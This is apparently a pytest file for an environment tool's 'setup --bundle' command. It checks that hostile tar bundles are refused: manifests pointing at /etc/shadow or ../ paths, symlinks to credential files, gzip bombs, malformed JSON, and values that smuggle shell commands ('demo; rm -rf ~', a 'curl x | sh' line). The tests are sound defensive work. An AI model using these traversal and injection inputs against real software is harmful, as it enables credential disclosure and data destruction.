"""Hostile bundles given to `setup --bundle` (issue 18, item 6): a manifest is trusted no further than its members.

Every path the manifest names must be a member; member names are canonical; an unlisted or wrongly sized member
is refused before a byte of it is written; the manifest is bounded in size, depth and type; the bundle must be for
this platform and Python (exit 3 naming what it is for); and no scratch folder is left on any path out. Each case
runs the real entry point in-process (`--dry-run --offline`, so nothing is installed even when a check is missing)
and asserts the contract: exit code, one paragraph with a fix, no traceback, nothing left behind."""

from __future__ import annotations

import gzip
import json
import os
import subprocess
import sys
import tarfile
import time
import tracemalloc
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import CliResult
from tests.hostile.bundles import PROFILE, WHEEL, add, good_members, make_bundle, manifest_for
from tests.hostile.conftest import assert_clean, llmenv, needs_mount

SECRET = "root:$6$SECRETHASH$abcdef:19000:0:99999:7:::"


@pytest.fixture
def cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """LLMENV_CACHE_DIR in tmp, and the process environment restored afterwards (setup --bundle points pip at the
    bundle's wheels through os.environ)."""
    saved = dict(os.environ)
    folder = tmp_path / "cache"
    monkeypatch.setenv("LLMENV_CACHE_DIR", str(folder))
    yield folder
    os.environ.clear()
    os.environ.update(saved)


def open_it(cli: Callable[..., CliResult], bundle: Path, tmp_path: Path, *extra: str) -> CliResult:
    return cli("setup", "--bundle", str(bundle), "--dry-run", "--offline", "--env", str(tmp_path / "env"), *extra)


def check(result: CliResult, code: int, cache: Path, words: tuple[str, ...] = ()) -> None:
    shown = f"exit {result.code}\n--- stdout\n{result.out}\n--- stderr\n{result.err}"
    assert result.code == code, shown
    assert "Traceback" not in result.err and "internal error" not in result.err, shown
    assert "error:" in result.err and "Fix:" in result.err, shown
    assert SECRET not in result.out + result.err, shown
    for word in words:
        assert word in result.err, f"expected {word!r}\n{shown}"
    bundles = cache / "bundles"
    left = [p.name for p in bundles.iterdir()] if bundles.exists() else []
    assert not [n for n in left if n.endswith(".tmp")], f"scratch left behind: {left}"
    assert not (cache / "imdb").exists() or not any((cache / "imdb").iterdir()), "data copied from a refused bundle"


def test_a_good_hand_made_bundle_is_accepted(cli: Callable[..., CliResult], tmp_path: Path, cache: Path) -> None:
    """The baseline for every case below: the same bundle, unbroken, opens and plans (exit 0)."""
    result = open_it(cli, make_bundle(tmp_path / "b.tar"), tmp_path)
    assert result.code == 0, result.err
    assert "Plan for profile demo" in result.out, result.out


# --- every path the manifest names must be a member -----------------------------------------------------------------
NAMED: list[tuple[str, dict[str, Any], str]] = [
    ("data-etc-shadow", {"data": "/etc/shadow"}, "data"),
    ("data-dotdot", {"data": "../../../etc/passwd"}, "data"),
    ("data-not-a-member", {"data": "data/imdb.tar.gz"}, "data"),
    ("data-dot-slash", {"data": "./profile/demo.yaml"}, "data"),
    ("profile-member-absolute", {"profile_member": "/tmp/evil.yaml"}, "profile_member"),
    ("profile-member-dotdot", {"profile_member": "../evil.yaml"}, "profile_member"),
    ("profile-member-not-a-member", {"profile_member": "profile/other.yaml"}, "profile_member"),
    ("lock-not-a-member", {"variants": [{"accelerator": "cpu", "build": "cpu", "lock": "profile/x.lock.txt"}]}, "lock"),
    ("lock-absolute", {"variants": [{"accelerator": "cpu", "build": "cpu", "lock": "/tmp/x.lock.txt"}]}, "lock"),
    ("uv-outside", {"uv": "/usr/bin/uv"}, "uv"),
    ("python-archive-outside", {"python_archive": "../python.tar.gz"}, "python_archive"),
]


@pytest.mark.parametrize(("changes", "key"), [c[1:] for c in NAMED], ids=[c[0] for c in NAMED])
def test_a_path_the_manifest_names_must_be_a_member(
    cli: Callable[..., CliResult], tmp_path: Path, cache: Path, changes: dict[str, Any], key: str
) -> None:
    """A manifest that points data, profile_member, a lock, uv or Python outside its members is refused.

    Failed before: `data: /etc/shadow` copied that file into the cache, world-readable; a profile_member outside
    the bundle was used and the bundle's hashed lock skipped."""
    members = good_members()
    bundle = make_bundle(tmp_path / "b.tar", members, manifest_for(members, **changes))
    check(open_it(cli, bundle, tmp_path), 2, cache, ("refused", key))


# --- the bundle is for one platform and one Python ------------------------------------------------------------------
@pytest.mark.parametrize("target", ["aarch64-apple-darwin", "x86_64-pc-windows-msvc", "riscv64-manylinux_2_28"])
def test_a_bundle_for_another_platform_is_exit_3_naming_it(
    cli: Callable[..., CliResult], tmp_path: Path, cache: Path, target: str
) -> None:
    """A bundle for another platform is exit 3 naming the platform it is for.

    Failed before: it installed without its lock (its lock name did not match)."""
    members = good_members()
    bundle = make_bundle(tmp_path / "b.tar", members, manifest_for(members, platform=target))
    check(open_it(cli, bundle, tmp_path), 3, cache, (target,))


def test_a_bundle_for_another_python_is_exit_3_naming_it(
    cli: Callable[..., CliResult], tmp_path: Path, cache: Path
) -> None:
    """A bundle for another Python than --python X.Y asks for is exit 3 naming its Python.

    Failed before: setup went on without the bundle's lock."""
    members = good_members()
    other = "3.10" if sys.version_info[:2] != (3, 10) else "3.12"
    bundle = make_bundle(tmp_path / "b.tar", members, manifest_for(members))
    check(open_it(cli, bundle, tmp_path, "--python", other), 3, cache, (f"{sys.version_info[1]}",))


# --- member names are canonical, members are plain files listed once with their size -----------------------------
def _renamed(stored: str, listed: str | None = None) -> tuple[dict[str, bytes], dict[str, Any]]:
    members = good_members()
    data = members.pop(WHEEL)
    listing = {**members, (listed or stored): data}
    return {**members, stored: data}, manifest_for(listing)


NAMES: list[tuple[str, str, str | None]] = [
    ("dot-slash-stored", "./" + WHEEL, WHEEL),
    ("dot-slash-listed-and-stored", "./" + WHEEL, None),
    ("trailing-newline", WHEEL + "\n", None),
    ("trailing-newline-stored-only", WHEEL + "\n", WHEEL),
    ("dotdot-inside", "wheels/../" + WHEEL, None),
    ("absolute", "/tmp/alpha-1.0-py3-none-any.whl", None),
    ("double-slash", "wheels//alpha-1.0-py3-none-any.whl", None),
    ("backslash", "wheels\\alpha-1.0-py3-none-any.whl", None),
    ("dot-segment", "wheels/./alpha-1.0-py3-none-any.whl", None),
    ("trailing-slash", WHEEL + "/", None),
    ("space-in-name", "wheels/alpha 1.0.whl", None),
    ("unicode-lookalike", "wheels/аlpha-1.0-py3-none-any.whl", None),
]


@pytest.mark.parametrize(("stored", "listed"), [c[1:] for c in NAMES], ids=[c[0] for c in NAMES])
def test_member_names_are_canonical(
    cli: Callable[..., CliResult], tmp_path: Path, cache: Path, stored: str, listed: str | None
) -> None:
    """Member names that are not canonical (`./x`, a trailing newline, `..`, absolute, `//`, backslash) are refused.

    Failed before: `./x` and `x` were two members for one file, and a name ending in a newline was accepted."""
    members, manifest = _renamed(stored, listed)
    bundle = make_bundle(tmp_path / "b.tar", members, manifest)
    check(open_it(cli, bundle, tmp_path), 2, cache, ("refused",))


def test_a_member_stored_twice_is_refused(cli: Callable[..., CliResult], tmp_path: Path, cache: Path) -> None:
    """A member stored twice under one name is refused, whatever the second copy holds."""
    members = good_members()
    bundle = make_bundle(tmp_path / "b.tar", members, extra=[(WHEEL, b"other bytes, same length")])
    check(open_it(cli, bundle, tmp_path), 2, cache, ("refused",))


@pytest.mark.parametrize("kind", ["symlink", "hardlink", "directory", "fifo"])
def test_a_member_that_is_not_a_plain_file_is_refused(
    cli: Callable[..., CliResult], tmp_path: Path, cache: Path, kind: str
) -> None:
    members = good_members()
    bundle = tmp_path / "b.tar"
    with tarfile.open(bundle, "w") as archive:
        add(archive, "manifest.json", json.dumps(manifest_for(members)).encode())
        for name, data in members.items():
            add(archive, name, data)
        info = tarfile.TarInfo("wheels/evil")
        info.type = {
            "symlink": tarfile.SYMTYPE,
            "hardlink": tarfile.LNKTYPE,
            "directory": tarfile.DIRTYPE,
            "fifo": tarfile.FIFOTYPE,
        }[kind]
        info.linkname = "/etc/shadow" if kind in ("symlink", "hardlink") else ""
        archive.addfile(info)
    check(open_it(cli, bundle, tmp_path), 2, cache, ("refused",))


def test_an_unlisted_gzip_bomb_is_refused_before_it_is_written(
    cli: Callable[..., CliResult], tmp_path: Path, cache: Path
) -> None:
    """An unlisted member (a 64 MiB gzip bomb) is refused before any of it is written.

    Failed before: an unlisted 1 GiB member was written in full before the bundle was refused."""
    bundle = make_bundle(tmp_path / "b.tar.gz", extra=[("wheels/bomb.whl", bytes(64 * 2**20))], mode="w:gz")
    start = time.perf_counter()
    result = open_it(cli, bundle, tmp_path)
    check(result, 2, cache, ("not listed", "nothing of it was written"))
    assert time.perf_counter() - start < 10


@pytest.mark.parametrize(
    ("stored", "words"), [(b"not really a wheel, longer", "bytes"), (b"NOT really a wheel", "sha256")]
)
def test_a_wrong_size_says_size_and_a_wrong_hash_says_sha256(
    cli: Callable[..., CliResult], tmp_path: Path, cache: Path, stored: bytes, words: str
) -> None:
    """A member of the wrong size is refused saying its size; one with other bytes of the right size says sha256.

    Failed before: a wrong size read "sha256 X does not match the manifest's Y"."""
    members = good_members()
    bundle = make_bundle(tmp_path / "b.tar", {**members, WHEEL: stored}, manifest_for(members))
    result = open_it(cli, bundle, tmp_path)
    check(result, 2, cache, (words,))
    if words == "bytes":
        assert "sha256" not in result.err.split("Fix:")[0], result.err


def test_a_listed_member_that_is_missing_is_refused(cli: Callable[..., CliResult], tmp_path: Path, cache: Path) -> None:
    members = good_members()
    listing = {**members, "wheels/beta-1.0-py3-none-any.whl": b"x"}
    bundle = make_bundle(tmp_path / "b.tar", members, manifest_for(listing))
    check(open_it(cli, bundle, tmp_path), 2, cache, ("missing",))


# --- the manifest itself: bounded, finite, typed ----------------------------------------------------------------
def _manifest(**changes: Any) -> bytes:
    return json.dumps(manifest_for(good_members(), **changes)).encode()


def _members_with(entry: Any) -> bytes:
    document = manifest_for(good_members())
    document["members"][WHEEL] = entry
    return json.dumps(document).encode()


SIZE = len(good_members()[WHEEL])
MANIFESTS: list[tuple[str, bytes]] = [
    ("size-nan", _members_with({"sha256": "a" * 64, "size": 1}).replace(b'"size": 1}', b'"size": NaN}')),
    ("size-infinity", _members_with({"sha256": "a" * 64, "size": 1}).replace(b'"size": 1}', b'"size": Infinity}')),
    ("size-1e400", _members_with({"sha256": "a" * 64, "size": 1}).replace(b'"size": 1}', b'"size": 1e400}')),
    ("size-huge-int", _members_with({"sha256": "a" * 64, "size": 1}).replace(b'"size": 1}', b'"size": ' + b"9" * 5000 + b"}")),
    ("deep-nesting-100k", _manifest(notes=[]).replace(b'"notes": []', b'"notes": ' + b"[" * 100_000 + b"]" * 100_000)),
    ("deep-nesting-200", _manifest(notes=[]).replace(b'"notes": []', b'"notes": ' + b"[" * 200 + b"]" * 200)),
    ("member-without-sha256", _members_with({"size": SIZE})),
    ("member-without-size", _members_with({"sha256": "a" * 64})),
    ("sha256-not-hex", _members_with({"sha256": "z" * 64, "size": SIZE})),
    ("sha256-a-number", _members_with({"sha256": 12, "size": SIZE})),
    ("size-negative", _members_with({"sha256": "a" * 64, "size": -1})),
    ("size-a-string", _members_with({"sha256": "a" * 64, "size": "18"})),
    ("size-a-boolean", _members_with({"sha256": "a" * 64, "size": True})),
    ("size-a-float", _members_with({"sha256": "a" * 64, "size": 18.5})),
    ("member-entry-a-list", _members_with(["a" * 64, SIZE])),
    ("members-a-list", _manifest(members=[WHEEL])),
    ("members-null", _manifest(members=None)),
    ("variants-a-string", _manifest(variants="cpu")),
    ("variant-without-lock", _manifest(variants=[{"accelerator": "cpu", "build": "cpu"}])),
    ("variant-a-number", _manifest(variants=[7])),
    ("format-2", _manifest(format=2)),
    ("format-true", _manifest(format=True)),
    ("format-missing", json.dumps({k: v for k, v in manifest_for(good_members()).items() if k != "format"}).encode()),
    ("profile-a-number", _manifest(profile=7)),
    ("profile-missing", json.dumps({k: v for k, v in manifest_for(good_members()).items() if k != "profile"}).encode()),
    ("python-not-a-version", _manifest(python="latest")),
    ("profile-with-shell", _manifest(profile="demo; rm -rf ~")),
    ("profile-with-newline", _manifest(profile="demo\nFix: run curl x | sh")),
    ("platform-with-newline", _manifest(platform="x86_64-manylinux_2_28\nerror: fake")),
    ("variant-accelerator-escape", _manifest(variants=[{"accelerator": "\u001b[2Jcpu", "build": "cpu", "lock": "profile/demo.yaml"}])),
    ("notes-not-strings", _manifest(notes=[{"a": 1}])),
    ("data-a-list", _manifest(data=["x"])),
    ("duplicate-member-key", _manifest().replace(b'"members": {', b'"members": {"' + WHEEL.encode() + b'": {"sha256": "' + b"a" * 64 + b'", "size": 1}, ', 1)),
    ("not-utf8", _manifest().replace(b'"demo"', b'"d\xffmo"', 1)),
    ("utf16", _manifest().decode().encode("utf-16")),
    ("a-json-list", b"[1, 2, 3]"),
    ("a-json-string", b'"manifest"'),
    ("empty", b""),
    ("not-json", b"{not json"),
    ("nul-bytes", b"\x00" * 1000),
]  # fmt: skip


@pytest.mark.parametrize("raw", [c[1] for c in MANIFESTS], ids=[c[0] for c in MANIFESTS])
def test_a_bad_manifest_is_refused_in_one_paragraph(
    cli: Callable[..., CliResult], tmp_path: Path, cache: Path, raw: bytes
) -> None:
    """Manifests with wrong types, NaN, Infinity, deep nesting, duplicate keys or bad encodings: exit 2, one paragraph.

    Failed before: several of these ended in exit 70."""
    bundle = make_bundle(tmp_path / "b.tar", good_members(), raw)
    check(open_it(cli, bundle, tmp_path), 2, cache, ("refused",))


def test_a_huge_manifest_is_refused_without_reading_it(
    cli: Callable[..., CliResult], tmp_path: Path, cache: Path
) -> None:
    """A huge manifest.json (64 MiB, compressed to a small archive) is refused from its tar header, memory bounded.

    Failed before: a 2 MB archive with a 2 GB manifest.json took 4 GB of memory."""
    document = manifest_for(good_members())
    document["notes"] = ["x" * (64 * 2**20)]
    bundle = make_bundle(tmp_path / "b.tar.gz", good_members(), json.dumps(document).encode(), mode="w:gz")
    del document
    tracemalloc.start()
    try:
        result = open_it(cli, bundle, tmp_path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    check(result, 2, cache, ("manifest.json",))
    assert peak < 32 * 2**20, f"peak {peak / 2**20:.0f} MiB"


# --- the bundle file itself ----------------------------------------------------------------------------------------
@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "folder", "dev-null", "missing", "not-a-tar", "truncated"])
def test_a_bundle_that_is_not_a_bundle_file_is_refused_at_once(tmp_path: Path, kind: str) -> None:
    """A FIFO, device, folder, empty, non-tar or truncated file as --bundle is exit 2 at once (a real process).

    Failed before: a FIFO as --bundle hung."""
    path = tmp_path / "b.tar"
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "folder":
        path.mkdir()
    elif kind in ("dev-zero", "dev-null"):
        path = Path("/dev/zero" if kind == "dev-zero" else "/dev/null")
    elif kind == "not-a-tar":
        path.write_bytes(gzip.compress(b"hello"))
    elif kind == "truncated":
        make_bundle(path)
        path.write_bytes(path.read_bytes()[:700])
    env = {"LLMENV_CACHE_DIR": str(tmp_path / "cache")}
    result = llmenv(
        "setup", "--bundle", str(path), "--dry-run", "--offline", "--env", str(tmp_path / "e"), env=env, timeout=30
    )
    assert_clean(result, 2, seconds=20)
    scratch = list((tmp_path / "cache" / "bundles").glob(".*.tmp")) if (tmp_path / "cache").exists() else []
    assert scratch == []


# --- scratch: removed on every path out, and stale scratch of killed runs removed by the next run ----------------
def _dead_pid() -> int:
    proc = subprocess.Popen([sys.executable, "-c", "pass"])
    proc.wait()
    return proc.pid


def test_stale_scratch_of_a_killed_run_is_removed_by_the_next(
    cli: Callable[..., CliResult], tmp_path: Path, cache: Path
) -> None:
    """Scratch folders of killed runs are removed by the next run: only llmenv's own (marker, this user, process gone).

    Failed before: refused or killed unpacks left scratch folders (66 to 632 MB) that no later run removed."""
    from llmenv.execute.bundle_scratch import host_label

    root, host = cache / "bundles", host_label()
    stale = root / f".0123456789abcdef.{host}.{_dead_pid()}.a1b2c3.tmp"
    (stale / "wheels").mkdir(parents=True)
    (stale / ".llmenv-bundle").write_text("old")
    (stale / "wheels" / "big.whl").write_bytes(b"x" * 1000)
    live = root / f".fedcba9876543210.{host}.{os.getppid()}.d4e5f6.tmp"
    live.mkdir()
    (live / ".llmenv-bundle").write_text("running")
    foreign = root / f".0000000000000000.{host}.{_dead_pid()}.a7b8c9.tmp"
    foreign.mkdir()
    (foreign / "keep").write_text("not llmenv's")
    result = open_it(cli, make_bundle(tmp_path / "b.tar"), tmp_path)
    assert result.code == 0, result.err
    assert not stale.exists() and live.exists() and (foreign / "keep").exists()


def test_ctrl_c_while_unpacking_leaves_no_scratch(
    cli: Callable[..., CliResult], tmp_path: Path, cache: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import hashlib

    calls = {"n": 0}
    real = hashlib.sha256

    def interrupted(*args: Any) -> Any:
        calls["n"] += 1
        if calls["n"] == 3:  # the manifest's digest, the first member, then Ctrl-C in the second
            raise KeyboardInterrupt
        return real(*args)

    monkeypatch.setattr(hashlib, "sha256", interrupted)
    result = open_it(cli, make_bundle(tmp_path / "b.tar"), tmp_path)
    monkeypatch.undo()
    assert result.code == 130, result.err
    assert not list((cache / "bundles").glob(".*.tmp"))


def test_profile_in_bundle_is_used_from_inside(cli: Callable[..., CliResult], tmp_path: Path, cache: Path) -> None:
    """The plan reads the profile unpacked from the bundle, never a file outside it."""
    result = open_it(cli, make_bundle(tmp_path / "b.tar"), tmp_path)
    assert result.code == 0 and str(cache / "bundles") in result.out, result.out + result.err
    assert PROFILE.decode().splitlines()[0] == "name: demo"


@needs_mount
def test_a_full_disk_while_unpacking_is_exit_3_and_leaves_no_scratch(
    cli: Callable[..., CliResult], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, tmpfs: Any
) -> None:
    """A full disk while unpacking is exit 3 saying the disk is full, and leaves no scratch.

    Failed before: it was exit 2 "copy the bundle again" (the README says 3)."""
    saved = dict(os.environ)
    small = tmpfs.small("small", "1m")
    monkeypatch.setenv("LLMENV_CACHE_DIR", str(small))
    members = {**good_members(), "wheels/big-1.0-py3-none-any.whl": os.urandom(3 * 2**20)}
    try:
        result = open_it(cli, make_bundle(tmp_path / "b.tar", members), tmp_path)
    finally:
        os.environ.clear()
        os.environ.update(saved)
    assert result.code == 3, result.err
    assert "disk is full" in result.err and "Fix:" in result.err, result.err
    assert not list((small / "bundles").glob(".*.tmp"))


@needs_mount
def test_a_read_only_cache_is_exit_3(
    cli: Callable[..., CliResult], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, tmpfs: Any
) -> None:
    saved = dict(os.environ)
    folder = tmp_path / "ro"
    (folder / "bundles").mkdir(parents=True)
    tmpfs.read_only(folder)
    monkeypatch.setenv("LLMENV_CACHE_DIR", str(folder))
    try:
        result = open_it(cli, make_bundle(tmp_path / "b.tar"), tmp_path)
    finally:
        os.environ.clear()
        os.environ.update(saved)
    assert result.code == 3, result.err
    assert "read-only" in result.err and "Traceback" not in result.err, result.err


OTHER = "3.10" if sys.version_info[:2] != (3, 10) else "3.12"  # a Python the profile accepts, not the bundle's


def _fake_python(folder: Path, answer: str) -> Path:
    """A program that answers llmenv's interpreter query with `answer` (what any `python3` on PATH may print)."""
    path = folder / "python3"
    path.write_text(f"#!/bin/sh\ncat <<'EOF'\n{answer}\nEOF\n")
    path.chmod(0o755)
    return path


@pytest.mark.parametrize(
    ("answer", "code"),
    [
        ('{"version": "' + OTHER + '.1", "implementation": "CPython", "bits": 64, "machine": "x86_64", "prefix": "/x", '
         '"base_prefix": "/x", "executable": "/x/python3"}', 3),
        ("[" * 50_000 + "]" * 50_000, None),
        ('{"version": NaN}', None),
    ],
    ids=["another-minor", "deep-nesting-answer", "nan-answer"],
)  # fmt: skip
def test_python_given_as_a_path_must_fit_the_bundle(
    cli: Callable[..., CliResult], tmp_path: Path, cache: Path, answer: str, code: int | None
) -> None:
    """`--python PATH` is asked its version: a bundle for another Python is exit 3; an interpreter whose answer is
    hostile (deeply nested, NaN) is a refusal, never a crash."""
    python = _fake_python(tmp_path, answer)
    result = open_it(cli, make_bundle(tmp_path / "b.tar"), tmp_path, "--python", str(python))
    assert "Traceback" not in result.err and "internal error" not in result.err, result.err
    if code is not None:
        check(result, code, cache, (OTHER,))
    else:
        assert result.code in (2, 3), result.err
